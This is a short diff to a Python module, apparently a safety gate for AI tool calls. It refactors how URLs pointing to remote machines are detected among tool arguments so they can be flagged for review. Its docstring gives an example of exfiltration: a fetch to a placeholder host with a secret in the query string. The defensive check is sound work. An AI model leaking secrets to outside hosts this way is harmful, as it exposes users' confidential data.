@@ -254,16 +254,18 @@ def action_argument(arguments: Mapping[str, Any], *,
     return None
 
 
-_REMOTE_URL = re.compile(r"^(?:https?|wss?|ftp)://(?!(?:localhost|127\.\d+\.\d+\.\d+|"
-                         r"\[::1\]|0\.0\.0\.0)(?:[:/?#]|$))", re.I)
+_WEB_URL = re.compile(r"^(?:https?|wss?|ftp)://", re.I)
 
 
 def _remote_url(arguments: Mapping[str, Any]) -> str | None:
     """A URL to another machine among the arguments: a read there still sends what the URL
     carries (``fetch {"url": "https://x.example/?d=<secret>"}``), so the model judges it, as
     it does a harness's ``WebFetch``."""
+    from ctxgate.gate.effects.programs import LOCAL_HOST
+
     for value in arguments.values():
-        if isinstance(value, str) and _REMOTE_URL.match(value.strip()):
+        if isinstance(value, str) and _WEB_URL.match(value.strip()) and \
+                not LOCAL_HOST.match(value.strip()):
             return value.strip()
     return None
 
